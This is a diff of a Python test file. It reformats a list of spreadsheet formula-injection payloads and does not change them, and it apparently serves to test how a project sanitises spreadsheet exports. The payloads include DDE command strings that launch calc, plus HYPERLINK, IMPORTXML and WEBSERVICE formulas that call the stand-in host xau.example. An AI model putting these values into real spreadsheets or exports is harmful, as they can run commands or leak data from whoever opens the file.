@@ -27,12 +27,37 @@ from thidua.text import name_sort_key, plain_key
 
 STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 PAYLOADS = [
-    "=1+1", "=HYPERLINK(\"http://xau.example\",\"x\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C x'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
-    "＝1+1", "＋1", "－1", "＠SUM(1)", "=IMPORTXML(\"http://xau.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
-    "=1+1;=2", "\"=1+1", "'=1+1", "=A1\u0000", "%0A=1+1", "=WEBSERVICE(\"http://xau.example\")", "={1,2}",
-    "=-1", "==1", "=+1", "=@A1", "+=1", "=1\n=2",
-]  # fmt: skip
+    "=1+1",
+    '=HYPERLINK("http://xau.example","x")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C x'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    '=IMPORTXML("http://xau.example")',
+    '=DDE("cmd";"/C calc";"x")',
+    "=1+1;=2",
+    '"=1+1',
+    "'=1+1",
+    "=A1\u0000",
+    "%0A=1+1",
+    '=WEBSERVICE("http://xau.example")',
+    "={1,2}",
+    "=-1",
+    "==1",
+    "=+1",
+    "=@A1",
+    "+=1",
+    "=1\n=2",
+]
 SUM = "=SUM("
 
 
